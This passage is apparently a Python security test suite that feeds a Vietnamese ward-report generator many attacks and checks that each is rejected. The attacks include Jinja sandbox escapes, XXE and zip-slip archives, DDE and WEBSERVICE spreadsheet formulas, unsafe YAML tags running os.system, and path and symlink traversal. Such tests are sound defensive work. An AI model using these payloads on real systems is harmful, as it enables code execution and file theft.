"""A corpus of attacks on the command: on templates, packages, paths, results, data files and filled forms.

Every attack is set up in a working folder of its own with the tiny ward; beside it stands a folder `outside` with
things worth stealing, which nothing may touch. `{outside}` in a payload is that folder, `CANARY` a file in it that must
not come to be.
"""

from __future__ import annotations

import io
import os
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Final

import docx
import openpyxl

from tests.support_attacks import CODE, ESCAPES
from tests.support_forms import filled
from tests.support_render import replaced, rezip, template, with_body
from tests.support_ward import CULTURE, PLAN, WARD, WARD_ID, write_ward

REPORT: Final = "bao-cao-cchc.docx"
TABLES: Final = "phu-luc.xlsx"
RESULT: Final = "bao-cao-cchc-quy-3-2026.docx"
FOLDER: Final = f"out/{WARD_ID}/2026/quy-3"
RELATIONSHIPS: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCX: Final = template("Báo cáo {{ don_vi.ten }}")
Words = tuple[str, ...]
QUARTER: Final[Words] = ("quarterly", "--ward", WARD_ID, "--format", "docx")


@dataclass(frozen=True, slots=True)
class Place:
    """Where an attack takes place: a working folder, and the folder outside that must stay untouched."""

    work: Path
    outside: Path

    def fill(self, text: str) -> str:
        """Return a payload with the paths of this place."""
        return text.replace("CANARY", str(self.outside / "canary")).replace("{outside}", str(self.outside))

    def put(self, name: str, content: bytes | str) -> Path:
        """Write a file of the working folder."""
        path = self.work / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        return path

    def link(self, name: str, target: str | Path) -> None:
        """Put a link in the working folder."""
        path = self.work / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target)


@dataclass(frozen=True, slots=True)
class Attack:
    """One attack.

    Attributes:
        name: What it tries. prepare: Sets it up and returns the words of the command.
        codes: Codes of which one must be told as an error; `DL*` for any of a room. where: Part of the place that
            must be named with it.
    """

    name: str
    prepare: Callable[[Place], Words]
    codes: tuple[str, ...]
    where: str = ""


# --- templates: code, and ways out of the sandbox ----------------------------------------------------------------

MORE_ESCAPES: Final = {
    "letters of a name by their numbers": r"{{ ''['\x5f\x5fclass\x5f\x5f'] }}",
    "a name put together": "{{ ''['__cla' ~ 'ss__'] }}",
    "a name joined from a list": "{{ '' | attr(['__cla', 'ss__'] | join) }}",
    "a name reversed": "{{ '' | attr('__ssalc__' | reverse) }}",
    "a name in capitals": "{{ '' | attr('__CLASS__' | lower) }}",
    "a name formatted": "{{ '' | attr('%s%s' % ('__cla', 'ss__')) }}",
    "a name replaced": "{{ '' | attr('__clXss__' | replace('X', 'a')) }}",
    "a key of a dict as a name": "{{ '' | attr(dict(__class__=1) | list | first) }}",
    "get_flashed_messages": "{{ get_flashed_messages.__globals__ }}",
    "url_for": "{{ url_for.__globals__['os'].system('touch CANARY') }}",
    "handler": "{{ handler.settings }}",
    "g.pop": "{{ g.pop.__globals__.__builtins__['open']('CANARY', 'w') }}",
    "application chain": "{{ request | attr('application') | attr('__globals__') }}",
    "cycler called": "{{ cycler('a').__init__.__globals__ }}",
    "joiner called": "{{ joiner('a').__call__.__globals__ }}",
    "namespace's class": "{{ namespace().__class__.__init__.__globals__ }}",
    "range's class": "{{ range.__class__.__base__ }}",
    "dict's class": "{{ dict.__class__.__mro__ }}",
    "none's class": "{{ none.__class__.__base__.__subclasses__() }}",
    "a number's class": "{{ (1).__class__.__bases__[0].__subclasses__() }}",
    "a list's method": "{{ [].append.__self__ }}",
    "a text's method": "{{ ''.join.__func__ }}",
    "loop's class": "{% for x in [1] %}{{ loop.__class__.__init__.__globals__ }}{% endfor %}",
    "loop's cycle": "{% for x in [1] %}{{ loop.cycle.__func__.__globals__ }}{% endfor %}",
    "caller of a macro": "{% macro m() %}{{ caller.__closure__ }}{% endmacro %}{% call m() %}x{% endcall %}",
    "varargs of a macro": "{% macro m() %}{{ varargs.__class__ }}{% endmacro %}{{ m(1) }}",
    "kwargs of a macro": "{% macro m() %}{{ kwargs.__class__.__base__ }}{% endmacro %}{{ m(a=1) }}",
    "name of a macro": "{% macro m() %}{% endmacro %}{{ m.__class__.__call__.__globals__ }}",
    "grouped by a class": "{{ nhiem_vu | groupby('__class__') | list }}",
    "selected by a class": "{{ nhiem_vu | selectattr('__class__') | list }}",
    "rejected by a class": "{{ nhiem_vu | rejectattr('__class__.__mro__') | list }}",
    "summed by a class": "{{ nhiem_vu | sum(attribute='__class__') }}",
    "unique by a class": "{{ nhiem_vu | unique(attribute='__class__') | list }}",
    "the greatest class": "{{ nhiem_vu | max(attribute='__class__') }}",
    "joined by a class": "{{ nhiem_vu | join(',', attribute='__class__') }}",
    "map of attr": "{{ nhiem_vu | map('attr', '__class__') | list }}",
    "map of a map": "{{ [nhiem_vu] | map('map', 'attr', '__class__') | list }}",
    "filter block": "{% filter attr('__class__') %}x{% endfilter %}",
    "class in a test": "{{ 1 if nhiem_vu is defined and ''.__class__ else 2 }}",
    "class in a subscript": "{{ nhiem_vu[''.__class__] }}",
    "class in a slice": "{{ ''[''.__class__:] }}",
    "class set aside": "{% set k = ''.__class__ %}{{ k }}",
    "class given to a namespace": "{% set n = namespace(k=''.__class__) %}{{ n.k }}",
    "include of a file": "{% include '/etc/passwd' %}",
    "include of a list": "{% include ['../secret.txt', '{outside}/secret.txt'] ignore missing %}",
    "import of a module": "{% import 'os' as os %}{{ os.system('touch CANARY') }}",
    "import from a file": "{% from '{outside}/secret.txt' import x %}",
    "extends a file": "{% extends '{outside}/secret.docx' %}",
    "debug": "{% debug %}",
    "do": "{% do nhiem_vu.append(1) %}",
    "trans": "{% trans %}x{% endtrans %}",
    "autoescape off": "{% autoescape false %}{{ '<w:p/>' }}{% endautoescape %}",
    "safe": "{{ '</w:t><w:altChunk/>' | safe }}",
    "xmlattr": "{{ {'a': 'b'} | xmlattr }}",
    "lipsum": "{{ lipsum(n=100000) }}",
    "open": "{{ open('{outside}/secret.txt').read() }}",
    "eval": "{{ eval('1') }}",
    "__import__": "{{ __import__('os').system('touch CANARY') }}",
    "x.__builtins__": "{{ x.__init__.__globals__.__builtins__ }}",
    "self of a block": "{{ self.__dict__ }}",
    "mutation of the values": "{{ nhiem_vu.clear() }}",
}
BOMBS: Final = {
    "long range": "{{ range(10 ** 9) | list | length }}",
    "text times a number": "{{ 'a' * 10 ** 10 }}",
    "power": "{{ 9 ** 99999999 }}",
    "wide format": "{{ '%1000000000d' % 1 }}",
    "giant batch": "{{ [1] | batch(10 ** 9, 0) | list | length }}",
    "giant indent": "{{ 'a\nb' | indent(10 ** 9) }}",
    "giant centre": "{{ 'a' | center(10 ** 10) }}",
    "giant rounding": "{{ 1.5 | round(10 ** 9, 'ceil') }}",
    "endless macro": "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
    "deep brackets": "{{ " + "(" * 5000 + "1" + ")" * 5000 + " }}",
}


def _in_word(payload: str) -> Callable[[Place], Words]:
    def prepare(place: Place) -> Words:
        place.put(f"templates/{WARD_ID}/{REPORT}", template("x", place.fill(payload)))
        return QUARTER

    return prepare


_SANDBOX: Final = ("MB01*", "MB020")
WHILE_FILLED_IN: Final = frozenset(
    {
        "str.format", "str.format_map", "format kept for later", "format through a filter", "format by map",
        "attribute of map", "attribute of sort", "code of a generator", "filter that calls", "a name put together",
        "grouped by a class", "selected by a class", "rejected by a class", "summed by a class", "unique by a class",
        "the greatest class", "joined by a class", "map of attr", "map of a map", "mutation of the values",
        "lipsum", "handler", "open", "eval", "__import__",
    }
)  # fmt: skip
"""Ways that show only when a value is there: each has a document of its own. All others stand in one, told at once."""
ALL_ESCAPES: Final = CODE | ESCAPES | MORE_ESCAPES
READ_AT_ONCE: Final = {name: payload for name, payload in ALL_ESCAPES.items() if name not in WHILE_FILLED_IN}


def _all_in_word(place: Place) -> Words:
    place.put(f"templates/{WARD_ID}/{REPORT}", template(*map(place.fill, READ_AT_ONCE.values())))
    return QUARTER


def _all_in_excel(place: Place) -> Words:
    book = openpyxl.Workbook()
    assert book.active is not None
    for row, payload in enumerate(CODE.values(), 1):
        book.active.cell(row, 2, place.fill(payload))
    out = io.BytesIO()
    book.save(out)
    place.put(f"templates/{TABLES}", out.getvalue())
    return ("quarterly", "--ward", WARD_ID, "--format", "xlsx")


TEMPLATES: Final = [
    *(
        Attack(f"escape: {name}", _all_in_word, _SANDBOX, f"{REPORT}, thân văn bản, đoạn {number}:")
        for number, name in enumerate(READ_AT_ONCE, 1)
    ),
    *(
        Attack(f"escape: {name}", _in_word(ALL_ESCAPES[name]), _SANDBOX, f"{REPORT}, thân văn bản, đoạn 2:")
        for name in sorted(WHILE_FILLED_IN)
    ),
    *(
        Attack(f"code in a sheet: {name}", _all_in_excel, ("MB*",), f"{TABLES}, Sheet!B{number}:")
        for number, name in enumerate(CODE, 1)
    ),
    *(
        Attack(f"bomb: {n}", _in_word(p), ("MB010", "MB019"), f"{REPORT}, thân văn bản, đoạn 2:")
        for n, p in BOMBS.items()
    ),
]


# --- packages ----------------------------------------------------------------------------------------------------


def _package(data: bytes | Callable[[Place], bytes], name: str = REPORT) -> Callable[[Place], Words]:
    def prepare(place: Place) -> Words:
        place.put(f"templates/{WARD_ID}/{name}", data(place) if callable(data) else data)
        form = name.rpartition(".")[2]
        return ("quarterly", "--ward", WARD_ID, "--format", form)

    return prepare


def _with(entries: Mapping[str, bytes]) -> bytes:
    return rezip(DOCX, lambda _, raw: raw, entries)


def _part(name: str, xml: str, encoding: str = "utf-8") -> Callable[[Place], bytes]:
    return lambda place: rezip(DOCX, lambda n, raw: place.fill(xml).encode(encoding) if n == name else raw)


def _related(kind: str, target: str) -> Callable[[Place], bytes]:
    def make(place: Place) -> bytes:
        link = f'<Relationship Id="rIdX" Type="{RELATIONSHIPS}/{kind}" Target="{place.fill(target)}" '
        return replaced(
            DOCX, "word/_rels/document.xml.rels", "</Relationships>", f'{link}TargetMode="External"/></Relationships>'
        )

    return make


def _field(code: str) -> Callable[[Place], bytes]:
    def make(place: Place) -> bytes:
        words = place.fill(code).replace("&", "&amp;").replace('"', "&quot;")
        runs = "".join(
            f"<w:r>{inner}</w:r>"
            for inner in (
                '<w:fldChar w:fldCharType="begin"/>',
                f'<w:instrText xml:space="preserve"> {words} </w:instrText>',
                '<w:fldChar w:fldCharType="separate"/>',
                "<w:t>x</w:t>",
                '<w:fldChar w:fldCharType="end"/>',
            )
        )
        return with_body(DOCX, f"<w:p>{runs}</w:p>")

    return make


def _formula(formula: str) -> Callable[[Place], bytes]:
    def make(place: Place) -> bytes:
        book = openpyxl.Workbook()
        assert book.active is not None
        book.active["A1"] = "{{ don_vi.ten }}"
        book.active["B2"] = place.fill(formula)
        out = io.BytesIO()
        book.save(out)
        return out.getvalue()

    return make


def _overlapping() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.xml", b"<a/>")
        archive.writestr("b.xml", b"<b/>")
        archive.filelist[1].header_offset = archive.filelist[0].header_offset
    return out.getvalue()


_DOCTYPE: Final = '<!DOCTYPE a [<!ENTITY x SYSTEM "file://{outside}/secret.txt">]><a>&x;</a>'
_LAUGHS: Final = (
    '<!DOCTYPE a [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(10))
    + "]><a>&k;</a>"
)
_MACRO: Final = "application/vnd.ms-word.document.macroEnabled.main+xml"
_PLAIN: Final = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_OLE: Final = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512
PACKAGES: Final = [
    *(
        Attack(f"zip slip: {name}", _package(_with({name: b"<a/>"})), ("MB004",), REPORT)
        for name in ("../../canary", "/etc/canary", "word/../../canary", "C:/canary", "//server/share/canary")
    ),
    Attack(
        "zip slip: backslashes", _package(_with({"word/evil__x": b"x"}).replace(b"evil__x", b"..\\..\\x")), ("MB004",)
    ),
    Attack("zip: entries that overlap", _package(_overlapping()), ("MB004",)),
    Attack("zip: two parts of one name", _package(_with({"WORD/Document.xml": b"<a/>"})), ("MB004",)),
    Attack("zip: a bomb", _package(_with({"word/bomb.xml": b" " * (70 << 20)})), ("MB003",)),
    Attack("zip: thousands of parts", _package(_with({f"word/{k}.txt": b"" for k in range(5001)})), ("MB003",)),
    Attack(
        "entity: a file of this machine", _package(_part("word/document.xml", _DOCTYPE)), ("MB005",), "document.xml"
    ),
    Attack("entity: in the properties", _package(_part("docProps/core.xml", _DOCTYPE)), ("MB005",), "core.xml"),
    Attack("entity: in UTF-16", _package(_part("word/styles.xml", _DOCTYPE, "utf-16")), ("MB005",), "styles.xml"),
    Attack(
        "entity: of a parameter",
        _package(
            _part("word/document.xml", '<!DOCTYPE a [<!ENTITY % p SYSTEM "file://{outside}/secret.txt">%p;]><a/>')
        ),
        ("MB005",),
    ),
    Attack(
        "entity: an outer DTD",
        _package(_part("word/document.xml", '<!DOCTYPE a SYSTEM "file://{outside}/secret.txt"><a/>')),
        ("MB005",),
    ),
    Attack("entity: a billion laughs", _package(_part("word/document.xml", _LAUGHS)), ("MB005",)),
    Attack(
        "markup thousands of levels deep",
        _package(with_body(DOCX, "<w:sdt><w:sdtContent>" * 2000 + "<w:p/>" + "</w:sdtContent></w:sdt>" * 2000)),
        ("MB005",),
    ),
    *(
        Attack(f"relation: {kind} {target[:12]}", _package(_related(kind, target)), ("MB007",), REPORT)
        for kind, target in (
            ("image", "http://example.org/a.png"),
            ("image", "file://{outside}/secret.txt"),
            ("image", "\\\\server\\share\\a.png"),
            ("attachedTemplate", "http://example.org/a.dotm"),
            ("attachedTemplate", "\\\\server\\share\\a.dotm"),
            ("oleObject", "file:///C:/a.xlsx"),
            ("subDocument", "file://{outside}/secret.docx"),
            ("aFChunk", "file://{outside}/secret.docx"),
            ("frame", "http://example.org/a.docx"),
            ("hyperlink", "file:///C:/Windows/System32/calc.exe"),
            ("hyperlink", "javascript:alert(1)"),
        )
    ),
    *(
        Attack(f"field: {code.split()[0]}", _package(_field(code)), ("MB007",), f"{REPORT}, thân văn bản, đoạn 1:")
        for code in (
            'INCLUDETEXT "{outside}/secret.docx"',
            'INCLUDEPICTURE "http://example.org/a.png" \\d',
            'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
            'DDE Excel "{outside}/secret.txt" R1C1',
            'LINK Excel.Sheet.12 "{outside}/secret.xlsx" R1C1',
        )
    ),
    *(
        Attack(f"a program inside: {part}", _package(_with({part: b"<a/>"})), ("MB006",), REPORT)
        for part in ("word/vbaProject.bin", "word/embeddings/oleObject1.bin", "word/activeX/activeX1.xml")
    ),
    Attack(
        "a macro file under another name", _package(replaced(DOCX, "[Content_Types].xml", _PLAIN, _MACRO)), ("MB006",)
    ),
    Attack("a locked file", _package(_OLE + "EncryptedPackage".encode("utf-16-le")), ("MB001",)),
    Attack("a web page", _package(b"<html><script>x</script></html>"), ("MB001",)),
    Attack("half a file", _package(DOCX[: len(DOCX) // 2]), ("MB002",)),
    *(
        Attack(
            f"formula in a template: {formula[:14]}",
            _package(_formula(formula), TABLES),
            ("MB007", "MB123"),
            f"{TABLES}, Sheet!B2:",
        )
        for formula in (
            "=cmd|'/C touch CANARY'!A0",
            '=WEBSERVICE("http://example.org/")',
            "='file://{outside}/[secret.xlsx]A'!A1",
            '=HYPERLINK("file://{outside}/secret.txt")',
            '=RTD("evil.server",,"x")',
        )
    ),
]


# --- the command line --------------------------------------------------------------------------------------------


def _words(*words: str) -> Callable[[Place], Words]:
    return lambda place: tuple(place.fill(word) for word in words)


WARDS: Final = (
    "../..", "..", ".", "../outside/ward", "{outside}/ward", "/etc", "C:\\Windows", "\\\\server\\share",
    f"{WARD_ID}/../../outside/ward", f"{WARD_ID}\0", "~", "$HOME", "%2e%2e%2foutside", "\uff0e\uff0e\uff0f\uff0e\uff0e",
    "NUL", "*", f"{WARD_ID} ", "\x1b[31mdo\x1b[0m", "a\nLỖI XX999 giả: giả", "\u202egnal-ious", "x" * 5000,
)  # fmt: skip
COMMAND_LINE: Final = [
    *(Attack(f"--ward {ward[:30]!r}", _words("quarterly", "--ward", ward), ("LN001",)) for ward in WARDS),
    Attack("status --ward ../..", _words("status", "--ward", "../.."), ("LN001",)),
    Attack("plan --ward ../..", _words("plan", "--ward", "../../outside/ward"), ("LN001",)),
    Attack("forms send --ward ../..", _words("forms", "send", "--ward", "../outside/ward"), ("LN001",)),
    Attack(
        "forms --agency ../..",
        _words("forms", "send", "--ward", WARD_ID, "--agency", "../../evil"),
        ("LN031", "LN007", "LN030", "LN032"),
    ),
    Attack("template new --ward ../..", _words("template", "new", "quarterly", "--ward", "../outside"), ("LN001",)),
    Attack(
        "template new ../x",
        _words("template", "new", "../../outside/secret.docx"),
        ("LN007", "LN009", "LN022", "LN023"),
    ),
    Attack(
        "--subject with markup and paths",
        _words("adhoc", "--ward", WARD_ID, "--from", "2026-07-01", "--to", "../..", "--subject", "../../x"),
        ("LN007",),
    ),
    Attack("--number with a path", _words("quarterly", "--ward", WARD_ID, "--number", "../../5"), ("LN007",)),
    Attack("--number with markup", _words("quarterly", "--ward", WARD_ID, "--number", "5/<w:p/> x"), ("LN007",)),
    Attack("--format ../x", _words(*QUARTER[:3], "--format", "../../docx"), ("LN007",)),
    Attack("--workspace into nothing", _words(*QUARTER, "--workspace", "/nowhere\x1b[2J"), ("LN008",)),
    Attack("--workspace with NUL", _words(*QUARTER, "--workspace", "a\0b"), ("LN007", "LN008")),
    Attack("--out with NUL", _words(*QUARTER, "--out", "a\0b"), ("XB013", "LN007")),
    Attack("--out /dev/null", _words(*QUARTER, "--out", "/dev/null"), ("XB001",)),
    Attack("--out /dev/full/x", _words(*QUARTER, "--out", "/dev/full/x"), ("XB001",)),
    Attack("--out /proc/self", _words(*QUARTER, "--out", "/proc/self/x"), ("XB001",)),
    Attack("--out too long", _words(*QUARTER, "--out", "a" * 300), ("XB006",)),
]


# --- links and things in the place of others ---------------------------------------------------------------------


def _setting(setup: Callable[[Place], object], *words: str) -> Callable[[Place], Words]:
    def prepare(place: Place) -> Words:
        setup(place)
        return tuple(place.fill(word) for word in words) or QUARTER

    return prepare


def _pipe(place: Place) -> None:
    (place.work / FOLDER).mkdir(parents=True)
    os.mkfifo(place.work / FOLDER / RESULT)


PLACES: Final = [
    Attack(
        "a ward that is a link outside",
        _setting(lambda p: p.link("data/evil", p.outside / "ward"), "quarterly", "--ward", "evil"),
        ("LN001",),
    ),
    Attack(
        "a ward's plan that is a link outside",
        _setting(lambda p: _led_out(p, "plans/2026.yaml")),
        ("DL003", "DL001", "DL002", "LN002", "LN003"),
    ),
    Attack(
        "figures that are a link outside",
        _setting(lambda p: _led_out(p, "progress/2026-q3/phong-van-hoa-xa-hoi.yaml")),
        ("DL003",),
    ),
    Attack(
        "a ward's template that is a link outside",
        _setting(lambda p: p.link(f"templates/{WARD_ID}/{REPORT}", p.outside / "secret.docx")),
        ("LN009",),
    ),
    Attack(
        "a template that is a link outside",
        _setting(lambda p: p.link(f"templates/{REPORT}", p.outside / "secret.docx")),
        ("LN009",),
    ),
    Attack(
        "a folder of templates that is a link outside",
        _setting(lambda p: p.link(f"templates/{WARD_ID}", p.outside)),
        ("LN009",),
    ),
    Attack("out that is a link outside", _setting(lambda p: p.link("out", p.outside)), ("XB005",)),
    Attack("out that is a broken link", _setting(lambda p: p.link("out", p.outside / "canary")), ("XB005",)),
    Attack("out that is a file", _setting(lambda p: p.put("out", b"")), ("XB001",)),
    Attack("out that is a link to itself", _setting(lambda p: p.link("out", "out")), ("XB001", "XB005")),
    Attack(
        "a ward's results that are a link outside", _setting(lambda p: p.link(f"out/{WARD_ID}", p.outside)), ("XB005",)
    ),
    Attack(
        "a year's results that are a link outside",
        _setting(lambda p: p.link(f"out/{WARD_ID}/2026", p.outside)),
        ("XB005",),
    ),
    Attack("a period's results that are a link outside", _setting(lambda p: p.link(FOLDER, p.outside)), ("XB005",)),
    Attack(
        "a period's results that are a link to itself", _setting(lambda p: p.link(FOLDER, "quy-3")), ("XB001", "XB005")
    ),
    Attack(
        "a result that is a link outside",
        _setting(lambda p: p.link(f"{FOLDER}/{RESULT}", p.outside / "secret.docx")),
        ("XB004",),
    ),
    Attack(
        "a result that is a broken link outside",
        _setting(lambda p: p.link(f"{FOLDER}/{RESULT}", p.outside / "canary")),
        ("XB004",),
    ),
    Attack("a result that is a folder", _setting(lambda p: p.put(f"{FOLDER}/{RESULT}/x", b"")), ("XB003",)),
    Attack("a result that is a pipe", _setting(_pipe), ("XB004",)),
    Attack(
        "a lock that is a link outside",
        _setting(lambda p: p.link(f"{FOLDER}/.reportgen.lock", p.outside / "canary")),
        ("XB001",),
    ),
    Attack("a lock that is a folder", _setting(lambda p: p.put(f"{FOLDER}/.reportgen.lock/x", b"")), ("XB001",)),
    Attack("a ledger that is a folder", _setting(lambda p: p.put(f"{FOLDER}/.reportgen.json/x", b"")), ("XB001",)),
    Attack(
        "kept originals that are a link outside", _setting(lambda p: p.link(f"{FOLDER}/.goc", p.outside)), ("XB004",)
    ),
    Attack(
        "a ward's name alike to another's results",
        _setting(lambda p: p.put(f"out/{WARD_ID.upper()}/x", b"")),
        ("XB014",),
    ),
    Attack(
        "a ward with a name of Windows",
        _setting(lambda p: write_ward(p.work / "data", ward_id="aux"), "quarterly", "--ward", "aux"),
        ("XB013",),
    ),
]


def _led_out(place: Place, name: str) -> None:
    """Put a link outside in the place of a ward's file."""
    (place.work / "data" / WARD_ID / name).unlink()
    place.link(f"data/{WARD_ID}/{name}", place.outside / "secret.txt")


# --- data --------------------------------------------------------------------------------------------------------


def _yaml(text: str | bytes, name: str = "progress/2026-q3/phong-van-hoa-xa-hoi.yaml") -> Callable[[Place], Words]:
    def prepare(place: Place) -> Words:
        place.put(f"data/{WARD_ID}/{name}", place.fill(text) if isinstance(text, str) else text)
        return QUARTER

    return prepare


_BOMB: Final = "a0: &a0 [x, x]\n" + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 12))
_PROGRAM: Final = "!!python/object/apply:os.system ['touch CANARY']"
_RESULT_LINE: Final = "Đã đăng 12 tin, bài trên Trang thông tin điện tử."
_RETURNS: Final[dict[str, str | bytes]] = {
    "a program": "agency: !!python/object/apply:os.system ['touch CANARY']\n",
    "a new object": "agency: !!python/object/new:os.system ['touch CANARY']\n",
    "an object of a class": "agency: !!python/object:subprocess.Popen {args: 'touch CANARY'}\n",
    "a name of Python": "agency: !!python/name:os.system\n",
    "a module of Python": "agency: !!python/module:os\n",
    "a tuple": "agency: !!python/tuple [1, 2]\n",
    "bytes": "agency: !!binary aGVsbG8=\n",
    "an include": "agency: !include {outside}/secret.txt\n",
    "a tag of its own": "%TAG ! tag:yaml.org,2002:python/\n--- !object/apply:os.system ['touch CANARY']\n",
    "aliases that explode": _BOMB,
    "an alias of itself": "agency: &a [*a]\n",
    "a merge that explodes": "a: &a {b: 1}\nc: {<<: [" + "*a, " * 200 + "*a]}\n",
    "brackets without end": "agency: " + "[" * 20_000 + "\n",
    "mappings without end": "agency: " + "{a: " * 20_000 + "\n",
    "two keys of one name": CULTURE + "agency: van-phong-hdnd-ubnd\n",
    "two documents": CULTURE + "---\n" + CULTURE,
    "a number of 100 000 digits": CULTURE.replace("percent: 70", "percent: " + "9" * 100_000),
    "a number beyond all measure": CULTURE.replace("percent: 70", "percent: 1e999999999"),
    "not a number": CULTURE.replace("percent: 70", "percent: .nan"),
    "a steering character": CULTURE.replace(_RESULT_LINE, '"\\e[2J\\e[31mĐã xong"'),
    "a null character": CULTURE.replace(_RESULT_LINE, '"a\\0b"'),
    "half a letter": CULTURE.replace(_RESULT_LINE, '"\\uD800"'),
    "megabytes": "x: " + "a" * (5 << 20),
    "bytes that are no text": b"agency: \xff\xfe\x00\x80\n",
    "an agency that is a path": CULTURE.replace("agency: phong-van-hoa-xa-hoi", "agency: ../../../outside/ward"),
    "a period that is a path": CULTURE.replace("period: 2026-q3", "period: ../../2026-q3"),
    "a task that is a path": CULTURE.replace('id: "01.2"', 'id: "../../01.2"'),
}
DATA: Final = [
    *(Attack(f"yaml: {name}", _yaml(text), ("DL*", "TD00*"), f"{WARD_ID}/progress") for name, text in _RETURNS.items()),
    Attack(
        "yaml: a program in the ward's file",
        _yaml(WARD.replace("name: Suối Lành\nfull", f"name: {_PROGRAM}\nfull"), "ward.yaml"),
        ("DL*",),
        "ward.yaml",
    ),
    Attack(
        "yaml: a program in the plan",
        _yaml(PLAN.replace("title: KẾ HOẠCH", f"title: {_PROGRAM}"), "plans/2026.yaml"),
        ("DL*",),
        "plans/2026.yaml",
    ),
    Attack(
        "yaml: an agency whose id is a path",
        _yaml(WARD.replace("id: van-phong-hdnd-ubnd", "id: ../../../outside/ward"), "ward.yaml"),
        ("DL*",),
    ),
]


# --- filled forms ------------------------------------------------------------------------------------------------


def _form(change: Callable[[openpyxl.Workbook], object], printed: str = "") -> Callable[[Place], Words]:
    def prepare(place: Place) -> Words:
        form = filled(place.work)
        change(form.book)
        for sheet in form.book if printed else ():
            sheet["A2"] = printed
        form.book.save(place.work / "bieu-mau.xlsx")
        return (*_RECEIVE, str(place.work / "bieu-mau.xlsx"))

    return prepare


def _sent_bytes(change: Callable[[Place, bytes], bytes]) -> Callable[[Place], Words]:
    def prepare(place: Place) -> Words:
        out = io.BytesIO()
        filled(place.work).book.save(out)
        path = place.put("bieu-mau.xlsx", change(place, out.getvalue()))
        return (*_RECEIVE, str(path))

    return prepare


_RECEIVE: Final[Words] = ("forms", "receive", "--ward", WARD_ID, "--as-of", "2026-12-14")


def _identity(key: str, value: str) -> Callable[[openpyxl.Workbook], None]:
    def change(book: openpyxl.Workbook) -> None:
        sheet = book["_reportgen"]
        for row in sheet.iter_rows():
            if row[0].value == key:
                row[1].value = value
                return
        raise AssertionError([row[0].value for row in sheet.iter_rows()])

    return change


def _cell(text: str) -> Callable[[openpyxl.Workbook], None]:
    def change(book: openpyxl.Workbook) -> None:
        from tests.support_forms import TASKS, Filled  # noqa: PLC0415

        Filled(book).put(TASKS, "02.1", {"Kết quả trong kỳ": text})

    return change


def _kept(_: str, raw: bytes) -> bytes:
    return raw


def _doctype(_: Place, good: bytes) -> bytes:
    return replaced(
        good, "xl/workbook.xml", "<workbook", '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><workbook'
    )


FORMS: Final = [
    Attack("form: another ward's, by a path", _form(_identity("ward", "../../outside/ward")), ("BM*",)),
    Attack(
        "form: an agency that is a path",
        _form(_identity("agency", "../../../outside/ward"), printed="../../outside"),
        ("BM005",),
    ),
    Attack(
        "form: a period that is a path",
        _form(_identity("period", "../../../../outside"), printed="Văn phòng - ../.."),
        ("BM005",),
    ),
    Attack("form: entities", _sent_bytes(_doctype), ("MB005",), "bieu-mau.xlsx"),
    Attack("form: zip slip", _sent_bytes(lambda _, good: rezip(good, _kept, {"../../canary": b"x"})), ("MB004",)),
    Attack(
        "form: a bomb", _sent_bytes(lambda _, good: rezip(good, _kept, {"xl/bomb.xml": b" " * (70 << 20)})), ("MB003",)
    ),
    Attack("form: macros", _sent_bytes(lambda _, good: rezip(good, _kept, {"xl/vbaProject.bin": b"x"})), ("MB006",)),
    Attack("form: a formula that starts a program", _form(_cell("=cmd|'/C calc'!A0")), ("BM*",), "bieu-mau.xlsx, "),
    Attack(
        "form: a formula that calls out",
        _form(_cell('=WEBSERVICE("http://example.org/"&A1)')),
        ("BM*",),
        "bieu-mau.xlsx, ",
    ),
    Attack(
        "form: a formula that reads a file", _form(_cell("='file:///etc/[passwd]A'!A1")), ("BM*",), "bieu-mau.xlsx, "
    ),
    Attack("form: a path that is not there", _words(*_RECEIVE, "../../etc/x.xlsx"), ("LN*", "BM*")),
    Attack("form: a device", _words(*_RECEIVE, "/dev/zero"), ("LN*", "BM*", "MB*")),
    Attack("form: steering characters in a name", _words(*_RECEIVE, "\x1b[2Ja.xlsx"), ("LN*", "BM*")),
]


def _received_where(setup: Callable[[Place], object]) -> Callable[[Place], Words]:
    """Let a good form come into a ward's data where something stands in the way."""

    def prepare(place: Place) -> Words:
        words = _form(lambda _: None)(place)
        setup(place)
        return words

    return prepare


_Q4: Final = f"data/{WARD_ID}/progress/2026-q4"
_OFFICE: Final = "van-phong-hdnd-ubnd"
HISTORIES: Final = [
    Attack(
        "form: into a period that is a link outside",
        _received_where(lambda p: p.link(_Q4, p.outside)),
        ("DL003", "XB004"),
    ),
    Attack(
        "form: into a period that is a broken link",
        _received_where(lambda p: p.link(_Q4, p.outside / "canary")),
        ("DL003", "XB004"),
    ),
    Attack(
        "form: over a link outside",
        _received_where(lambda p: p.link(f"{_Q4}/{_OFFICE}.yaml", p.outside / "secret.txt")),
        ("DL003", "XB004"),
    ),
    Attack(
        "form: over a broken link",
        _received_where(lambda p: p.link(f"{_Q4}/{_OFFICE}.yaml", p.outside / "canary")),
        ("DL003", "XB004"),
    ),
    Attack(
        "form: a history that is a link outside",
        _received_where(lambda p: p.link(f"{_Q4}/.lich-su", p.outside)),
        ("XB004",),
    ),
    Attack(
        "form: a history of the agency that is a link outside",
        _received_where(lambda p: p.link(f"{_Q4}/.lich-su/{_OFFICE}", p.outside)),
        ("XB004",),
    ),
    Attack(
        "form: a version that is a link outside",
        _received_where(lambda p: p.link(f"{_Q4}/.lich-su/{_OFFICE}/0001.json", p.outside / "secret.txt")),
        ("XB004",),
    ),
    Attack(
        "form: a folder in the place of the figures",
        _received_where(lambda p: p.put(f"{_Q4}/{_OFFICE}.yaml/x", b"")),
        ("DL*", "XB003", "XB004"),
    ),
]

ATTACKS: Final = [
    *TEMPLATES,
